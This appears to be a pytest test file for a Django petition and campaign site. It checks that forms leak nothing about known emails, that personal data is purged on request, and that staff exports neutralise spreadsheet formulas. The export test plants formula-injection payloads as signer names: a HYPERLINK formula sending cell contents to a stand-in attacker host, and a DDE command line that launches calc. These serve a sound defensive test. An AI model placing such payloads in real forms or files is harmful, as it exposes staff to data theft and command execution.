"""What a stranger who knows someone's email can learn or change through the public forms, and
what a hostile name does to the files staff open: nothing, in each case."""

import csv
import io
from unittest import mock

import pytest
from django.core import mail
from django.core.management import call_command
from django.test import Client
from django_tasks import TaskResultStatus

from campaigns.models import DecisionMaker, NewsSignup, OrganisationSignature, Signature
from campaigns.tasks import send_email
from tests.factories import confirm_signatures, make_action, make_user, soup, stream_json

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://attacker.invalid/?"&A1,"Open")'


def stored(signature):
    signature.refresh_from_db()
    return (
        signature.first_name,
        signature.last_name,
        signature.postal_code,
        signature.comment,
        signature.show_name,
        signature.contact_consent,
        signature.consent_text,
    )


def answer(response):
    """What the visitor at the form sees: the status, where it leads, that page's text."""
    return response.status_code, response["Location"]


def shown_total(client, page):
    return int(soup(client.get(page.url)).find("progress")["value"])


def test_signing_with_a_known_email_reveals_nothing_and_changes_nothing(
    client, petition_en, form_data
):
    first = client.post(petition_en.url, form_data())
    confirm_signatures(client)
    signature = Signature.objects.get()
    before, total = stored(signature), shown_total(client, petition_en)
    sent = len(mail.outbox)

    # A stranger signs with Ana's address, another name, no consent, name hidden.
    stranger = client.post(
        petition_en.url,
        form_data(first_name="Mallory", postal_code="10001", contact_consent=None, show_name=None),
    )
    new_person = client.post(petition_en.url, form_data(email="new@example.org"))
    assert answer(stranger) == answer(new_person) == answer(first)
    assert stored(signature) == before  # name, postcode, consent and its wording kept
    assert shown_total(client, petition_en) == total  # the count tells nothing either
    # Ana is told, in her language; the stranger learns nothing from the site.
    notes = [m for m in mail.outbox[sent:] if m.to == ["ana@example.org"]]
    assert [m.subject for m in notes] == ["You have already signed"]
    assert "nothing has changed" in notes[0].body


def test_an_organisations_signature_keeps_its_name_and_approval(client, form_data):
    from campaigns.models import ActionPage

    coalition = ActionPage.objects.live().get(locale__language_code="en", kind="organisations")
    fields = {"organisation": "Albergue Esperanza", "city": "Reynosa", "country": "MX",
              "contact_name": "Lucía", "contact_email": "lucia@example.org"}  # fmt: skip
    client.post(coalition.url, form_data(coalition, **fields))
    confirm_signatures(client)
    OrganisationSignature.objects.filter(contact_email="lucia@example.org").update(approved=True)
    again = {**fields, "organisation": "Fake Front", "contact_name": "Mallory"}
    assert client.post(coalition.url, form_data(coalition, **again)).status_code == 303
    row = OrganisationSignature.objects.get(contact_email="lucia@example.org")
    assert (row.organisation, row.contact_name, row.approved) == (
        "Albergue Esperanza",
        "Lucía",
        True,
    )


def test_an_unconfirmed_signature_is_not_counted_listed_or_delivered_and_goes_after_30_days(
    client, petition_en, form_data
):
    import datetime

    from django.utils import timezone

    total = shown_total(client, petition_en)
    client.post(petition_en.url, form_data(first_name="Pending"))
    assert shown_total(client, petition_en) == total
    assert "Pending" not in client.get(petition_en.url).content.decode()
    Signature.objects.update(created_at=timezone.now() - datetime.timedelta(days=31))
    call_command("purge_personal_data", stdout=io.StringIO())
    assert not Signature.objects.exists()


def test_opening_a_confirmation_link_confirms_nothing(client, petition_en, form_data):
    client.post(petition_en.url, form_data())
    (link,) = [w for w in mail.outbox[0].body.split() if "/signature/confirm/" in w]
    path = link.split("://", 1)[1].split("/", 1)[1]
    assert client.get("/" + path).status_code == 200  # what a mail scanner does
    assert Signature.objects.get().confirmed_at is None
    assert client.post("/" + path).status_code == 200
    assert Signature.objects.get().confirmed_at is not None
    assert client.post("/" + path).status_code == 410  # once only


def test_a_failing_mail_server_fails_the_task_not_the_visitor_and_logs_no_address(
    client, petition_en, form_data, caplog
):
    with mock.patch("django.core.mail.EmailMessage.send", side_effect=OSError("down")):
        response = client.post(petition_en.url, form_data())
        result = send_email.enqueue("signature_confirm", Signature.objects.get().pk)
    assert response.status_code == 303 and Signature.objects.exists()
    assert result.status == TaskResultStatus.FAILED  # kept, and shown to staff, as failed
    assert "ana@example.org" not in caplog.text


@pytest.fixture
def hostile_signature(client, form_data, db):
    from campaigns.models import ActionPage

    senator = DecisionMaker.objects.create(name="Terry Texan", role="senator", state="TX")
    letter = make_action(
        "targeted",
        "Test letter to a Texan senator",
        "test-hostile-letter",
        letter="<p>Please keep the door open.</p>",
        targets=stream_json(ActionPage, "targets", [("decision_maker", senator.pk)]),
    )
    # A name the form accepts (no markup) that a spreadsheet would run as a formula.
    hostile = form_data(
        letter, first_name=HOSTILE, last_name="+cmd|' /C calc'!A0", postal_code="78701"
    )
    assert client.post(letter.url, hostile).status_code == 303
    confirm_signatures(client)
    return letter, Signature.objects.get()


def campaign_data_staff():
    return make_user("data", groups=["Campaign data"])


def test_exports_neutralise_formulas(client, hostile_signature):
    letter, _signature = hostile_signature
    client.force_login(campaign_data_staff())
    exported = client.get("/admin/campaigns/signature/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(exported.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)

    from openpyxl import load_workbook

    xlsx = client.get("/admin/campaigns/signature/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    values = [
        c.value for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)
    ]
    assert "'" + HOSTILE in values
    assert not any(v.startswith(("=", "+", "@")) for v in values)

    senator = DecisionMaker.objects.get(name="Terry Texan")
    delivery = client.get(f"/admin/campaigns/delivery/{letter.pk}/{senator.pk}.csv")
    signer_rows = list(csv.reader(io.StringIO(delivery.content.decode())))[4:]
    assert signer_rows[0][0] == "'" + HOSTILE
    assert signer_rows[0][1].startswith("'+")


def test_forget_me_clears_staff_searches_for_the_address(client, petition_en, form_data):
    from django.contrib.sessions.models import Session

    client.post(petition_en.url, form_data())
    confirm_signatures(client)
    staff = Client()
    staff.force_login(campaign_data_staff())
    staff.post("/admin/campaigns/signature/", {"q": "ana@example.org"})
    assert any("ana@example.org" in str(s.get_decoded()) for s in Session.objects.all())
    call_command("purge_personal_data", forget="ana@example.org", stdout=io.StringIO())
    assert not any("ana@example.org" in str(s.get_decoded()) for s in Session.objects.all())
    assert not Signature.objects.exists()


def test_forget_me_takes_the_name_off_the_page_and_the_count_at_once(
    client, petition_en, form_data
):
    client.post(petition_en.url, form_data(first_name="Marisol"))
    confirm_signatures(client)
    total = shown_total(client, petition_en)  # fills the shared figures cache
    assert "Marisol" in client.get(petition_en.url).content.decode()
    call_command("purge_personal_data", forget="ana@example.org", stdout=io.StringIO())
    assert "Marisol" not in client.get(petition_en.url).content.decode()
    assert shown_total(client, petition_en) == total - 1


def test_a_dry_run_reports_what_a_real_run_does_for_every_record_type(
    client, petition_en, form_data
):
    client.post(petition_en.url, form_data())
    NewsSignup.objects.create(email="ana@example.org", language="en", consent_text="yes")
    dry = io.StringIO()
    call_command("purge_personal_data", forget="ana@example.org", dry_run=True, stdout=dry)
    assert Signature.objects.exists() and NewsSignup.objects.exists()
    real = io.StringIO()
    call_command("purge_personal_data", forget="ana@example.org", stdout=real)
    assert dry.getvalue().replace("would be", "were") == real.getvalue()
    assert "News sign-ups of the given email address: 1 were deleted" in real.getvalue()
